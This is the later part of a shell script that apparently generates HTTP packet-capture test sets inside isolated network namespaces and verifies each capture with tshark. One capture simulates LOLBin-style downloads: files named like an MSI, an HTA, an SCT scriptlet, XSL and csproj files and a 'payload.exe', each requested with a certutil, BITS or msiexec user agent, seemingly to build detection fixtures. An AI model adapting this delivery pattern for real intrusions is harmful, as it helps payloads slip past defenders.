msiinfo export "$WWW/setup.msi" File | grep -q readme.txt || die "MSI has no File row"

# update.cab (MSZIP-compressed, gcab -c -z) and archive.zip (zip -X: no extra fields).
(cd "$TMP/cab" && TZ=UTC gcab -c -z "$WWW/update.cab" update.inf payload.exe)
(cd "$TMP/zip" && TZ=UTC zip -q -X -D "$WWW/archive.zip" readme.txt payload.exe)
gcab -t "$WWW/update.cab" | grep -q payload.exe || die "gcab produced a bad cabinet"
unzip -tq "$WWW/archive.zip" >/dev/null || die "zip produced a bad archive"

# Identify what we serve (libmagic), and check the OLE file is an OLE file but not an MSI.
file_of() { file -b "$WWW/$1"; }
file_of payload.exe | grep -q '^PE32+ executable' || die "payload.exe: $(file_of payload.exe)"
file_of setup.msi | grep -q 'MSI Installer' || die "setup.msi: $(file_of setup.msi)"
file_of doc.doc | grep -q 'Microsoft Excel' || die "doc.doc: $(file_of doc.doc)"
file_of update.cab | grep -q 'Microsoft Cabinet' || die "update.cab: $(file_of update.cab)"
file_of logo.png | grep -q '^PNG image' || die "logo.png: $(file_of logo.png)"
"$PY" - "$WWW/doc.doc" "$WWW/setup.msi" <<'EOF' || die "OLE check failed"
import sys, olefile
MSI_CLSID = "000C1084-0000-0000-C000-000000000046"
doc, msi = (olefile.OleFileIO(p) for p in sys.argv[1:3])
assert doc.root.clsid.upper() != MSI_CLSID and doc.exists("Workbook"), doc.listdir()
assert msi.root.clsid.upper() == MSI_CLSID, msi.root.clsid
EOF

"$PY" "$TMP/lwh.py" manifest "$TMP" >"$TMP/manifest.tsv"

# ---------------------------------------------------------------------------------------
# Namespaces and the veth pair.
# ---------------------------------------------------------------------------------------
lw_make_namespaces

# ---------------------------------------------------------------------------------------
# One capture: start servers, start tcpdump, run the clients, stop everything.
# ---------------------------------------------------------------------------------------
SRV_PIDS=()
start_server() {  # start_server PORT LWH-ARGS...
    local port=$1; shift
    ip netns exec "$NS_S" "$PY" "$TMP/lwh.py" "$@" 2>>"$TMP/server.log" &
    PIDS+=($!); SRV_PIDS+=($!)
    for _ in $(seq 100); do
        [ -n "$(ins ss -Hlnt "sport = :$port")" ] && return 0
        sleep 0.1
    done
    die "nothing listening on port $port in $NS_S: $(cat "$TMP/server.log")"
}
stop_servers() {
    local pid
    for pid in "${SRV_PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
    for pid in "${SRV_PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
    SRV_PIDS=()
}

TCPDUMP_PID=""
start_capture() {  # start_capture NAME
    ip -n "$NS_C" neigh flush dev "$IF_C"
    ip -n "$NS_S" neigh flush dev "$IF_S"
    : >"$TMP/tcpdump.log"
    ip netns exec "$NS_C" tcpdump -i "$IF_C" -w "$PC/$1.pcap" -s 0 -U -nn -Z root 2>"$TMP/tcpdump.log" &
    TCPDUMP_PID=$!
    PIDS+=("$TCPDUMP_PID")
    for _ in $(seq 100); do
        grep -q "listening on" "$TMP/tcpdump.log" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "listening on" "$TMP/tcpdump.log" || die "tcpdump did not start: $(cat "$TMP/tcpdump.log")"
    sleep 0.5
}
stop_capture() {
    sleep 1   # trailing FIN/ACKs
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || die "tcpdump exited with $?: $(cat "$TMP/tcpdump.log")"
    grep -E "packets captured" "$TMP/tcpdump.log" | sed 's/^/make-http-set:   tcpdump: /' >&2
}

U="http://$HOST"
CURLO=(-sS --fail --http1.1 --resolve "$HOST:80:$IP_S" --resolve "$HOST:8080:$IP_S")
CURL=(curl "${CURLO[@]}")
same() {  # same FILE-RECEIVED FILE-EXPECTED WHAT
    cmp -s "$1" "$2" || die "$3: the client did not receive the expected body"
}
body_of() {  # body_of CAPTURE URI -> SHA-256 of the expected body (from the manifest)
    awk -F'\t' -v c="$1.pcap" -v u="$2" '$1 == c && $2 == u { print $3 }' "$TMP/manifest.tsv"
}

# 1. Pipelining ---------------------------------------------------------------------------
cap_http-pipelining() {
    inc "$PY" "$TMP/lwh.py" pipeline "$IP_S" 80 "$HOST" "$UA_RAW" "$WWW" >&2 || die "pipelining client failed"
}

# 2. Keep-alive: one curl, --next keeps the connection: 3 GETs, HEAD, POST, 304, 204 -----
cap_http-keepalive() {
    local etag
    etag="\"$(sha256sum "$WWW/app.js" | cut -c1-16)\""
    inc "${CURL[@]}" -A "$UA_BROWSER" \
            -o "$GOT/index.html" "$U/index.html" -o "$GOT/style.css" "$U/style.css" \
            -o "$GOT/app.js" "$U/app.js" \
        --next "${CURLO[@]}" -A "$UA_BROWSER" -I -o "$GOT/head.txt" "$U/index.html" \
        --next "${CURLO[@]}" -A "$UA_BROWSER" -d @"$TMP/form.txt" -e "$U/index.html" \
            -o "$GOT/login.html" "$U/login" \
        --next "${CURLO[@]}" -A "$UA_BROWSER" -H "If-None-Match: $etag" \
            -o "$GOT/app-304.js" -w '%{http_code}\n' "$U/app.js" \
        --next "${CURLO[@]}" -A "$UA_BROWSER" -o "$GOT/ping" -w '%{http_code}\n' "$U/ping" \
        >"$GOT/keepalive.codes"
    for f in index.html style.css app.js; do same "$GOT/$f" "$WWW/$f" "GET /$f"; done
    grep -q '^HTTP/1.1 200' "$GOT/head.txt" || die "HEAD /index.html: $(head -1 "$GOT/head.txt")"
    [ "$(tr '\n' ' ' <"$GOT/keepalive.codes")" = "304 204 " ] || die "keep-alive: codes $(cat "$GOT/keepalive.codes")"
    [ ! -s "$GOT/app-304.js" ] || die "304 with a body"
}

# 3. Chunked + gzip (trailer), then deflate, on one connection ----------------------------
cap_http-chunked-gzip() {
    inc "${CURL[@]}" --compressed -A "$UA_IE7" -o "$GOT/update.html" "$U/update.html" \
        --next "${CURLO[@]}" --compressed -A "$UA_PS" -o "$GOT/a.ps1" "$U/a.ps1"
    [ "$(sha256sum <"$GOT/update.html" | cut -d' ' -f1)" = "$(body_of http-chunked-gzip /update.html)" ] \
        || die "chunked/gzip body decoded by curl differs"
    [ "$(sha256sum <"$GOT/a.ps1" | cut -d' ' -f1)" = "$(body_of http-chunked-gzip /a.ps1)" ] \
        || die "deflate body decoded by curl differs"
}

# 4. HTTP/1.0 close-delimited; POST with Expect: 100-continue -----------------------------
cap_http-close-delimited() {
    inc "${CURL[@]}" -0 -A "$UA_BROWSER" -o "$GOT/legacy.txt" "$U/legacy.txt"
    same "$GOT/legacy.txt" "$WWW/legacy.txt" "GET /legacy.txt"
    sleep 0.3
    inc "${CURL[@]}" -A "$UA_BROWSER" -H 'Expect: 100-continue' -H 'Content-Type: text/csv' \
        --data-binary @"$TMP/upload.bin" -o "$GOT/upload.json" "$U/upload"
    [ "$(sha256sum <"$GOT/upload.json" | cut -d' ' -f1)" = "$(body_of http-close-delimited /upload)" ] \
        || die "POST /upload: unexpected reply $(cat "$GOT/upload.json")"
}

# 5. Ranges: three 206 that cover the file, then one multipart/byteranges ----------------
cap_http-range() {
    inc "${CURL[@]}" -A "$UA_BITS" -r 0-2047 -o "$GOT/r1" "$U/files/tool.exe" \
        --next "${CURLO[@]}" -A "$UA_BITS" -r 2048-4095 -o "$GOT/r2" "$U/files/tool.exe" \
        --next "${CURLO[@]}" -A "$UA_BITS" -r 4096- -o "$GOT/r3" "$U/files/tool.exe" \
        --next "${CURLO[@]}" -A "$UA_BITS" -r 0-63,4096-4159 -o "$GOT/multi" "$U/files/tool.exe"
    cat "$GOT/r1" "$GOT/r2" "$GOT/r3" | cmp -s - "$WWW/payload.exe" || die "ranges do not join to the PE"
    [ "$(sha256sum <"$GOT/multi" | cut -d' ' -f1)" = "$(body_of http-range /files/tool.exe#multipart)" ] \
        || die "multipart/byteranges body differs"
}

# 6. LOLBin payloads, one GET (one connection) each, with the user agent of the tool -----
LOLBIN=(
    "/setup.msi|$UA_MSI"
    "/doc.doc|$UA_BROWSER"
    "/run.hta|$UA_IE7"
    "/page.html|$UA_IE7"
    "/file.sct|$UA_IE7"
    "/style.xsl|$UA_IE7"
    "/other.xsl|$UA_IE7"
    "/build.csproj|$UA_BROWSER"
    "/payload.exe|$UA_CERTUTIL"
    "/update.cab|$UA_BITS"
    "/archive.zip|$UA_BROWSER"
    "/image.png|$UA_CRYPTOAPI"
    "/disguised.jpg|$UA_MSI"
)
cap_http-lolbin-payloads() {
    local pair uri ua
    for pair in "${LOLBIN[@]}"; do
        uri="${pair%%|*}"; ua="${pair#*|}"
        inc "${CURL[@]}" -A "$ua" -o "$GOT/lolbin${uri//\//_}" "$U$uri"
        [ "$(sha256sum <"$GOT/lolbin${uri//\//_}" | cut -d' ' -f1)" = "$(body_of http-lolbin-payloads "$uri")" ] \
            || die "GET $uri: unexpected body"
        sleep 0.2
    done
}

# 7. Not HTTP on :80; HTTP on :8080 -------------------------------------------------------
cap_http-nonhttp-port80() {
    inc "$PY" "$TMP/lwh.py" garbage-client "$IP_S" 80 >&2 || die "garbage client failed"
    sleep 0.3
    inc "${CURL[@]}" -A "$UA_BROWSER" -o "$GOT/status.html" "$U:8080/status.html"
    same "$GOT/status.html" "$WWW/status.html" "GET :8080/status.html"
}

run_capture() {  # run_capture NAME
    local name=$1
    log "$name"
    if [ "$name" = http-nonhttp-port80 ]; then
        start_server 80 garbage-server "$IP_S" 80
        start_server 8080 serve "$IP_S" 8080 "$WWW"
    else
        start_server 80 serve "$IP_S" 80 "$WWW"
    fi
    start_capture "$name"
    "cap_$name"
    stop_capture
    stop_servers
}

for name in "${CAPTURES[@]}"; do run_capture "$name"; done

# ---------------------------------------------------------------------------------------
# Verify every capture with tcpdump and tshark.
# ---------------------------------------------------------------------------------------
log "verifying"
fail=0
ok()   { printf '  ok    %s\n' "$1"; }
bad()  { printf '  FAIL  %s\n' "$1"; fail=1; }
want() {  # want DESCRIPTION GOT EXPECTED  (exact)
    if [ "$2" = "$3" ]; then ok "$1: $2"; else bad "$1: got '$2', want '$3'"; fi
}
atleast() {  # atleast DESCRIPTION GOT MIN
    if [ "$2" -ge "$3" ]; then ok "$1: $2"; else bad "$1: got $2, want >= $3"; fi
}

for name in "${CAPTURES[@]}"; do
    P="$PC/$name.pcap"
    ts() { tshark -n -r "$P" "$@" 2>/dev/null; }
    tsf() { local f=$1; shift; ts -Y "$f" -T fields "$@"; }
    echo "$name.pcap"
    size=$(stat -c %s "$P")
    npk=$(tcpdump -nn -r "$P" 2>/dev/null | wc -l)
    [ "$npk" -gt 0 ] && ok "tcpdump reads $npk packets, $size bytes" || bad "tcpdump reads no packets"
    [ "$size" -lt 2097152 ] && ok "smaller than 2 MB" || bad "$size bytes, not < 2 MB"
    maxlen=$(ts -T fields -e frame.len | sort -n | tail -1)
    [ "$maxlen" -le 1514 ] && ok "largest frame $maxlen bytes" || bad "frame of $maxlen bytes"
    other=$(ts -Y "ip && !(ip.addr == $IP_C && ip.addr == $IP_S)" | wc -l)
    want "packets not between $IP_C and $IP_S" "$other" 0
    want "TCP RSTs" "$(ts -Y 'tcp.flags.reset == 1' | wc -l)" 0
    want "TCP analysis problems" "$(ts -Y 'tcp.analysis.flags && !tcp.analysis.window_update' | wc -l)" 0
    reqs() { tsf http.request -e http.request.method -e http.request.uri | tr '\t\n' ' ;'; }
    codes() { tsf http.response -e http.response.code | tr '\n' ' ' | sed 's/ $//'; }
    streams() { tsf http.request -e tcp.stream | sort -u | wc -l; }
    case $name in
    http-pipelining)
        # All three requests are in one frame, so tshark lists them in one comma-joined row.
        want "requests" "$(reqs)" "GET,GET,GET /hello.txt,/logo.png,/data.json;"
        want "user agents" "$(tsf http.request -e http.user_agent | tr ',' '\n' | sort -u)" "$UA_RAW"
        want "responses" "$(codes)" "200 200 200"
        want "TCP connections with requests" "$(streams)" 1
        want "frames carrying the 3 requests (all in one segment)" \
            "$(tsf http.request -e frame.number | sort -u | wc -l)" 1
        want "response Content-Types" "$(tsf http.response -e http.content_type | tr '\n' ' ')" \
            "text/plain; charset=utf-8 image/png application/json "
        ;;
    http-keepalive)
        want "requests" "$(reqs)" \
            "GET /index.html;GET /style.css;GET /app.js;HEAD /index.html;POST /login;GET /app.js;GET /ping;"
        want "responses" "$(codes)" "200 200 200 200 200 304 204"
        want "TCP connections (keep-alive)" "$(ts -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' | wc -l)" 1
        want "POST form body" "$(tsf 'urlencoded-form' -e urlencoded-form.key | tr '\n' ' ')" "user,password,remember "
        ;;
    http-chunked-gzip)
        want "requests" "$(reqs)" "GET /update.html;GET /a.ps1;"
        want "responses" "$(codes)" "200 200"
        want "chunked + gzip response" \
            "$(ts -Y 'http.transfer_encoding == "chunked" && http.content_encoding == "gzip"' | wc -l)" 1
        want "chunk sizes" "$(tsf http.response -e http.chunk_size | head -1)" "10,1,47,63,0"
        want "trailer" "$(ts -Y 'http.chunked_trailer_part contains "X-Content-SHA256"' | wc -l)" 1
        want "deflate response" "$(ts -Y 'http.content_encoding == "deflate"' | wc -l)" 1
        want "TCP connections" "$(streams)" 1
        ;;
    http-close-delimited)
        want "requests" "$(tsf http.request -e http.request.method -e http.request.uri -e http.request.version | tr '\t\n' ' ;')" \
            "GET /legacy.txt HTTP/1.0;POST /upload HTTP/1.1;"
        want "responses" "$(codes)" "200 100 200"
        want "HTTP/1.0 response without Content-Length" \
            "$(ts -Y 'http.response.version == "HTTP/1.0" && !http.content_length_header' | wc -l)" 1
        want "Expect: 100-continue" "$(ts -Y 'http.request.line contains "Expect: 100-continue"' | wc -l)" 1
        want "server FIN first on the HTTP/1.0 connection" \
            "$(ts -Y "tcp.flags.fin == 1" -T fields -e ip.src | head -1)" "$IP_S"
        ;;
    http-range)
        want "requests" "$(reqs)" "GET /files/tool.exe;GET /files/tool.exe;GET /files/tool.exe;GET /files/tool.exe;"
        for r in "Range: bytes=0-2047" "Range: bytes=2048-4095" "Range: bytes=4096-" "Range: bytes=0-63,4096-4159" \
                 "Content-Range: bytes 0-2047/7168" "Content-Range: bytes 2048-4095/7168" \
                 "Content-Range: bytes 4096-7167/7168"; do
            want "$r" "$(ts -Y "http.request.line == \"$r\\r\\n\" || http.response.line == \"$r\\r\\n\"" | wc -l)" 1
        done
        want "responses" "$(codes)" "206 206 206 206"
        want "multipart/byteranges" "$(ts -Y 'http.content_type contains "multipart/byteranges"' | wc -l)" 1
        want "multipart parts" "$(ts -Y 'mime_multipart' -T fields -e mime_multipart.part | tr -cd ',\n' | wc -c)" 2
        want "TCP connections" "$(streams)" 1
        ;;
    http-lolbin-payloads)
        for pair in "${LOLBIN[@]}"; do
            uri="${pair%%|*}"; ua="${pair#*|}"
            want "GET $uri UA ${ua:0:28}" \
                "$(ts -Y "http.request.uri == \"$uri\" && http.user_agent == \"$ua\"" | wc -l)" 1
        done
        want "responses" "$(codes)" "200 200 200 200 200 200 200 200 200 200 200 200 200"
        want "Content-Types" "$(tsf http.response -e http.content_type | tr '\n' ';')" \
            "application/x-msi;application/msword;application/hta;text/html;text/plain;text/xml;text/xml;text/xml;application/octet-stream;application/vnd.ms-cab-compressed;application/zip;image/png;image/jpeg;"
        want "TCP connections" "$(streams)" 13
        ;;
    http-nonhttp-port80)
        want "HTTP requests on :80" "$(ts -Y 'tcp.port == 80 && http.request' | wc -l)" 0
        atleast "payload segments on :80 client->server" "$(ts -Y "tcp.dstport == 80 && tcp.len > 0" | wc -l)" 1
        atleast "payload segments on :80 server->client" "$(ts -Y "tcp.srcport == 80 && tcp.len > 0" | wc -l)" 1
        want "bytes on :80 (client, server)" \
            "$(ts -Y 'tcp.dstport == 80' -T fields -e tcp.len | awk '{s+=$1} END {print s}'), $(ts -Y 'tcp.srcport == 80' -T fields -e tcp.len | awk '{s+=$1} END {print s}')" \
            "256, 384"
        want "HTTP request on :8080" "$(ts -Y 'tcp.dstport == 8080 && http.request.uri == "/status.html"' | wc -l)" 1
        want "responses" "$(codes)" "200"
        ;;
    esac
    # Bodies as tshark reassembles and decodes them must match the manifest.
    rm -rf "$TMP/eo" && mkdir -p "$TMP/eo"
    ts -q --export-objects "http,$TMP/eo" >/dev/null
    exported="$(find "$TMP/eo" -type f -exec sha256sum {} + | cut -d' ' -f1 | sort -u)"
    while IFS=$'\t' read -r cap uri hash _size note; do
        [ "$cap" = "$name.pcap" ] || continue
        case $uri in *'#bytes='*) case $note in part*) continue;; esac;; esac   # inside #multipart
        [ "$uri" = /files/tool.exe ] && continue                              # only as the 3 ranges
        if grep -qx "$hash" <<<"$exported"; then ok "body $uri (tshark export) sha256 ${hash:0:16}…"
        else bad "body $uri: no object exported by tshark has sha256 $hash"; fi
    done <"$TMP/manifest.tsv"
done

if [ "$fail" -ne 0 ] && [ -n "${LWH_DEBUG_DIR:-}" ]; then
    cp "$PC"/*.pcap "$LWH_DEBUG_DIR"/ && log "failed captures copied to $LWH_DEBUG_DIR"
fi
[ "$fail" -eq 0 ] || die "verification failed; captures left out of place (nothing written to $OUTDIR)"

for name in "${CAPTURES[@]}"; do
    chmod 0644 "$PC/$name.pcap"
    mv -f "$PC/$name.pcap" "$OUTDIR/$name.pcap.tmp.$$"
    mv -f "$OUTDIR/$name.pcap.tmp.$$" "$OUTDIR/$name.pcap"
done
awk -F'\t' '{ printf "%s  %s  %s\n", $3, $1, $2 }' "$TMP/manifest.tsv" >"$OUTDIR/http-set.sha256.tmp.$$"
mv -f "$OUTDIR/http-set.sha256.tmp.$$" "$OUTDIR/http-set.sha256"
log "wrote ${#CAPTURES[@]} captures and http-set.sha256 to $OUTDIR"

# ---------------------------------------------------------------------------------------
# Summary.
# ---------------------------------------------------------------------------------------
echo
echo "Captures:"
for name in "${CAPTURES[@]}"; do
    P="$OUTDIR/$name.pcap"
    printf '  %-28s %5d packets %8d bytes\n' "$name.pcap" \
        "$(tcpdump -nn -r "$P" 2>/dev/null | wc -l)" "$(stat -c %s "$P")"
    # -E aggregator='|': pipelined requests share a frame; list each on its own line.
    tshark -n -r "$P" -Y 'http.request || http.response' -T fields -E aggregator='|' \
        -e tcp.stream -e tcp.dstport -e http.request.method -e http.request.uri -e http.user_agent \
        -e http.response.code -e http.content_type -e http.content_encoding -e http.transfer_encoding 2>/dev/null |
        awk -F'\t' '{
            if ($3 != "") {
                n = split($3, m, "|"); split($4, u, "|"); split($5, a, "|")
                for (i = 1; i <= n; i++) printf "      c%-2s :%-4s %-4s %-22s UA: %s\n", $1, $2, m[i], u[i], a[i]
            } else {
                printf "      c%-2s        -> %s %s%s%s\n", $1, $6, $7,
                    ($8 != "" ? " enc=" $8 : ""), ($9 != "" ? " te=" $9 : "")
            } }'
done
echo
echo "Body SHA-256 (pcaps/http-set.sha256: <sha256>  <capture>  <uri>):"
awk -F'\t' '{ printf "  %s  %-26s %-32s %6d B  %s\n", $3, $1, $2, $4, $5 }' "$TMP/manifest.tsv"
